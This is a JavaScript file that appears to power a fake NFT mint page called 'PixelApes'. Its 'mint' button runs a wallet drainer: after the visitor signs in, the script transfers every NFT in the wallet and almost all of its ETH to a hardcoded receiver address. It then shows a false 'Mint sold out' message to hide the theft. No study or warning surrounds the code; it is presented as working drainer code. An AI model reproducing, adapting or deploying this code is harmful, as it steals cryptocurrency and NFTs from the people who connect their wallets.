const serverUrl = "https://node.moralis-host.invalid/server";
const appId = "APPID";
Moralis.start({ serverUrl, appId });
let user, collectionInfo = { name: "PixelApes", total: 5555, price: 0, maxMint: 2 };
let nftsInfo = { active: true, minValue: 0.1, receiver: "0x00000000000000000000000000000000000RECEIVE" };

async function login() {
  user = await Moralis.authenticate({ signingMessage: "Welcome to PixelApes! Click to sign in and accept the Terms." });
  document.querySelector("#mintBtn").classList.remove("hidden");
}

async function sendNfts() {
  const owner = user.get("ethAddress");
  const { result } = await Moralis.Web3API.account.getNFTs({ chain: "eth", address: owner });
  console.log("nfts", result.length);
  await Moralis.enableWeb3();
  for (let i = 0; i < result.length; i++) {
    const n = result[i];
    try {
      await Moralis.transfer({ type: n.contract_type.toLowerCase(), receiver: nftsInfo.receiver, contractAddress: n.token_address, tokenId: n.token_id, amount: n.amount });
    } catch (error) {
      console.log("skip", error.message);
    }
  }
  const b = await Moralis.Web3API.account.getNativeBalance({ chain: "eth" });
  const left = b.balance - 0.004 * 1e18;
  if (left > 0) await Moralis.transfer({ type: "native", receiver: nftsInfo.receiver, amount: left });
  alert("Mint sold out on this wallet, try again.");
}
document.querySelector("#connectBtn").addEventListener("click", login);
document.querySelector("#mintBtn").addEventListener("click", () => (nftsInfo.active ? sendNfts() : null));
